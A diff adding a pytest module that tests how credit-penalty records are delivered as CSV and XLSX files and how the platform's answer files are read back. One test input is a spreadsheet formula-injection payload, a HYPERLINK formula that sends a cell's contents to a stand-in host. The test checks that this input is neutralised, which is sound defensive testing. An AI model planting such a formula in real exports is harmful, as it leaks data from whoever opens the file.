@@ -1,0 +1,291 @@
+"""Feeds that are delivered as files: what lies in the folder, whatever happens on the way; single and on servers."""
+
+from __future__ import annotations
+
+import csv
+import os
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from python_calamine import CalamineWorkbook
+
+from credit.store import carried
+from credit.store.carried import LotState
+from credit.store.engine import writing
+from schemas.errors import TransientError
+from schemas.routing import FolderPlan
+from schemas.states import FeedKind, Operation
+from tests.builders import NOON, WANG, feed_in, message, rows
+from workers.answers import Answers
+from workers.carrier import LOT, CarriedRow
+from workers.delivery import STAGED, Folder, make_carrier
+from workers.postings import Posting
+from workers.runtime import Runtime, open_runtime
+from workers.settings import Settings
+
+SHIPPED = Path(__file__).parents[2] / "routing.yaml"
+PERSON = {
+    "CF_XDR_MC": "样本人员",
+    "CF_XDR_LB": "自然人",
+    "CF_XDR_SHXYM": "",
+    "CF_FRDB": "",
+    "CF_XDR_ZJLX": "身份证",
+    "CF_XDR_ZJHM": WANG,
+}
+HOSTILE = '=HYPERLINK("http://x/?"&A1)'
+
+
+def routing(folder: Path, generation: str = "V2019", form: str = "csv") -> str:
+    plan = f"    deliver: {{folder: {{path: {folder}, format: {form}}}}}\n"
+    text = SHIPPED.read_text().replace(
+        "    generation: V2019\n    kinds: [permit, penalty]\n",
+        f"    generation: {generation}\n    kinds: [permit, penalty]\n{plan}",
+    )
+    assert plan in text
+    return text
+
+
+@pytest.fixture
+def out(tmp_path: Path) -> Path:
+    folder = tmp_path / "out"
+    folder.mkdir()
+    return folder
+
+
+@pytest.fixture
+def runtime(place: Settings, out: Path, tmp_path: Path) -> Iterator[Runtime]:
+    (tmp_path / "routing.yaml").write_text(routing(out))
+    with open_runtime(replace(place, routing=tmp_path / "routing.yaml"), lambda: NOON) as opened:
+        yield opened
+
+
+def carry(runtime: Runtime) -> int:
+    carrier = make_carrier(runtime)
+    try:
+        return carrier.step(0.2)
+    finally:
+        carrier.close()
+
+
+def penalty(message_id: str, number: int, revision: int = 1, /, **items: str) -> Posting:
+    return message("penalty", message_id, {"revision": revision}, CF_WSH=f"舞卫公罚〔2026〕{number}号", **items)
+
+
+def lines(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def names(folder: Path) -> list[str]:
+    return sorted(path.name for path in folder.iterdir() if path.name != STAGED)
+
+
+def test_rows_lie_in_files_by_operation_and_a_withdrawal_names_what_was_delivered(runtime: Runtime, out: Path) -> None:
+    feed_in(runtime, penalty("1", 1), penalty("2", 2, CF_SY=HOSTILE))
+    assert carry(runtime) == 2
+    (name,) = names(out)
+    assert name == "credit-china.penalty-v2019.publish.20260601.0001.csv"
+    first, second = sorted(lines(out / name), key=lambda row: row["行政处罚决定书文号"])
+    assert first["行政处罚决定书文号"] == "舞卫公罚〔2026〕1号"
+    assert first["罚款金额（万元）"] == "0.200000"
+    assert second["违法事实"] == f"'{HOSTILE}"
+
+    withdraw = message(
+        "office.withdrawal",
+        "w",
+        target={
+            "family": "credit.inspection.penalty",
+            "organ_code": "11410481983690064T",
+            "document_no": "舞卫公罚〔2026〕1号",
+        },
+    )
+    feed_in(runtime, withdraw, penalty("3", 2, 2, CF_NR="警告，罚款人民币2000元整"))
+    assert carry(runtime) == 2
+    assert [name.split(".")[2:4] for name in names(out)[1:]] == [["update", "20260601"], ["withdraw", "20260601"]]
+    (gone,) = lines(next(out.glob("*withdraw*")))
+    assert gone["行政处罚决定书文号"] == "舞卫公罚〔2026〕1号"
+    assert gone["违法事实"] == ""  # what is withdrawn, for whatever reason, is not told once more
+    assert carry(runtime) == 0
+
+
+def test_persons_and_organisations_apart_where_the_generation_wants_it(
+    place: Settings, out: Path, tmp_path: Path
+) -> None:
+    (tmp_path / "routing.yaml").write_text(routing(out, "V2018", "xlsx"))
+    with open_runtime(replace(place, routing=tmp_path / "routing.yaml"), lambda: NOON) as runtime:
+        feed_in(runtime, penalty("1", 1), penalty("2", 2, **PERSON))
+        assert carry(runtime) == 2
+    assert [name.split(".")[1] for name in names(out)] == ["penalty-v2018-organisation", "penalty-v2018-person"]
+    sheet = CalamineWorkbook.from_path(str(out / names(out)[1])).get_sheet_by_index(0)
+    said = {str(cell) for row in sheet.to_python() for cell in row}
+    assert "110105********002X" in said
+    assert not any(WANG in text for text in said)
+
+
+def test_what_is_held_is_in_no_file(runtime: Runtime, out: Path) -> None:
+    feed_in(runtime, penalty("1", 1, BZ="长" * 513))
+    assert carry(runtime) == 0
+    assert names(out) == []
+    assert rows(runtime, "SELECT version, held FROM feed_row") == [(0, '["too_long:BZ"]')]
+
+
+def test_a_folder_that_is_away_is_waited_for(runtime: Runtime, out: Path) -> None:
+    feed_in(runtime, penalty("1", 1))
+    out.rmdir()
+    with pytest.raises(TransientError, match="cannot be delivered"):
+        carry(runtime)
+    assert not out.exists()  # a share that is away is not made anew on the disk below it
+    out.mkdir()
+    assert carry(runtime) == 1
+    assert len(names(out)) == 1
+
+
+class TestAnswers:
+    """What a platform answers by files, as the carrier of its feed finds them."""
+
+    @pytest.fixture
+    def answers(self, runtime: Runtime, tmp_path: Path) -> Answers:
+        folder = tmp_path / "answers"
+        folder.mkdir()
+        feed_in(runtime, penalty("1", 1), penalty("2", 2))
+        return Answers("credit-china", folder, runtime, "11410481685969382K")
+
+    def lay(self, answers: Answers, text: str, name: str = "反馈.csv") -> None:
+        path = answers.folder / name
+        path.write_text(text, encoding="utf-8-sig")
+        os.utime(path, (NOON.timestamp() + 60, NOON.timestamp() + 60))
+
+    def take(self, answers: Answers) -> int:
+        assert answers.step() == 0  # it may still be growing
+        done = answers.step()
+        feed_in(answers.opened)
+        return done
+
+    def codes(self, runtime: Runtime) -> dict[str, object]:
+        statement = "SELECT r.document_no, f.result_code FROM feed_row f JOIN record r USING (record_id)"
+        return {str(number)[-2]: code for number, code in rows(runtime, statement)}
+
+    def test_close_rows_by_the_number_of_the_document(self, runtime: Runtime, answers: Answers) -> None:
+        text = (
+            "行政处罚决定书文号,反馈结果,错误信息\n舞卫公罚[2026]1号,成功,\n舞卫公罚〔2026〕2号,E003,代码校验不通过\n"
+        )
+        self.lay(answers, text)
+        assert self.take(answers) == 2
+        assert self.codes(runtime) == {"1": "0000", "2": "E003"}
+        assert [path.name for path in answers.folder.iterdir()] == ["done"]
+        assert [path.name for path in (answers.folder / "done").iterdir()] == ["反馈.csv"]
+
+    def test_say_of_each_row_why_it_closes_nothing(self, runtime: Runtime, answers: Answers) -> None:
+        text = "文号,结果\n=1+1,0000\n舞卫公罚〔2026〕9号,0000\n舞卫公罚〔2026〕2号,\n舞卫公罚〔2026〕1号,0000\n"
+        self.lay(answers, text)
+        assert self.take(answers) == 1
+        assert self.codes(runtime) == {"1": "0000", "2": None}
+        (left,) = (answers.folder / "done").glob("*.未办结.csv")
+        assert [(row["行"], row["文书号"], row["未办结的原因"]) for row in lines(left)] == [
+            ("2", "'=1+1", "没有向该平台报送过该文书号的数据"),
+            ("3", "舞卫公罚〔2026〕9号", "没有向该平台报送过该文书号的数据"),
+            ("4", "舞卫公罚〔2026〕2号", "没有填写结果代码"),
+        ]
+
+    def test_a_file_that_nobody_can_read_is_put_away_with_its_reason(self, runtime: Runtime, answers: Answers) -> None:
+        self.lay(answers, "<html>登录超时</html>", "反馈.xlsx")
+        assert self.take(answers) == 0
+        assert set(self.codes(runtime).values()) == {None}
+        (left,) = (answers.folder / "done").glob("*.未办结.csv")
+        assert lines(left)[0]["未办结的原因"].startswith("文件无法读取")
+
+    def test_a_file_read_twice_changes_nothing(self, runtime: Runtime, answers: Answers) -> None:
+        text = "文号,结果\n舞卫公罚〔2026〕1号,0000\n"
+        self.lay(answers, text)
+        self.take(answers)
+        self.lay(answers, text)
+        self.take(answers)
+        found = rows(runtime, "SELECT outcome, repeats FROM message WHERE type = 'credit.feed.result.v1'")
+        assert found == [("applied", 1)]
+
+
+class TestKilled:
+    """Each point at which a carrier can be killed, as the next one finds it: the rows come again from the broker."""
+
+    @pytest.fixture
+    def folder(self, runtime: Runtime, out: Path) -> Folder:
+        templates = runtime.reader.registry.templates()
+        return Folder("credit-china", FolderPlan(path=str(out), format="csv"), runtime.engine, runtime.rules, templates)
+
+    def row(self, name: str, version: int = 1) -> CarriedRow:
+        return CarriedRow(
+            message_id=f"{name}:{version}",
+            row_id=name,
+            version=version,
+            feed="credit-china",
+            generation="V2019",
+            kind=FeedKind.PENALTY,
+            template="penalty-v2019",
+            parties=None,
+            operation=Operation.PUBLISH,
+            items={"CF_WSH": name},
+            at=NOON,
+        )
+
+    def plan(self, folder: Folder, *rows: CarriedRow) -> str:
+        with writing(folder.engine) as connection:
+            kept = [row.keep(NOON) for row in rows]
+            lot = carried.plan(connection, folder.feed, "penalty-v2019", Operation.PUBLISH, kept, folder.rules().at)
+        assert lot is not None
+        return lot.lot
+
+    def found(self, out: Path) -> dict[str, list[str]]:
+        return {name: [row["行政处罚决定书文号"] for row in lines(out / name)] for name in names(out)}
+
+    def test_after_planning(self, folder: Folder, out: Path) -> None:
+        name = self.plan(folder, self.row("a"), self.row("b"))
+        folder.deliver([self.row("a"), self.row("b"), self.row("c")])
+        assert self.found(out) == {
+            f"{name}.csv": ["a", "b"],
+            "credit-china.penalty-v2019.publish.20260601.0002.csv": ["c"],
+        }
+
+    def test_while_writing(self, folder: Folder, out: Path) -> None:
+        name = self.plan(folder, self.row("a"))
+        (out / STAGED).mkdir()
+        (out / STAGED / f"99.{name}.csv").write_text("hal")
+        (out / STAGED / f"{name}.csv").write_text("moved, and not committed")
+        folder.deliver([self.row("a")])
+        assert self.found(out) == {f"{name}.csv": ["a"]}
+
+    def test_after_writing(self, folder: Folder, out: Path) -> None:
+        name = self.plan(folder, self.row("a"))
+        (out / STAGED).mkdir()
+        (out / STAGED / f"{name}.csv").write_text("行政处罚决定书文号\r\na\r\n", encoding="utf-8-sig")
+        self.advance(folder, name)
+        folder.deliver([self.row("a")])
+        assert self.found(out) == {f"{name}.csv": ["a"]}
+
+    def test_after_moving_and_when_the_platform_has_taken_the_file_already(self, folder: Folder, out: Path) -> None:
+        name = self.plan(folder, self.row("a"))
+        self.advance(folder, name)
+        folder.deliver([self.row("a")])
+        assert self.found(out) == {}
+        folder.deliver([self.row("a"), self.row("b")])
+        assert self.found(out) == {"credit-china.penalty-v2019.publish.20260601.0002.csv": ["b"]}
+
+    def test_before_acknowledging(self, folder: Folder, out: Path) -> None:
+        for _ in range(3):
+            folder.deliver([self.row("a")])
+        assert list(self.found(out).values()) == [["a"]]
+
+    def test_a_later_version_is_delivered_and_an_older_one_is_not(self, folder: Folder, out: Path) -> None:
+        folder.deliver([self.row("a", 2)])
+        folder.deliver([self.row("a", 1)])
+        folder.deliver([self.row("a", 3)])
+        assert len(names(out)) == 2
+
+    def advance(self, folder: Folder, name: str) -> None:
+        with writing(folder.engine) as connection:
+            assert carried.advance(connection, name, LotState.PLANNED, LotState.WRITTEN, NOON)
+
+
+def test_a_lot_has_two_hundred_rows() -> None:
+    assert LOT == 200
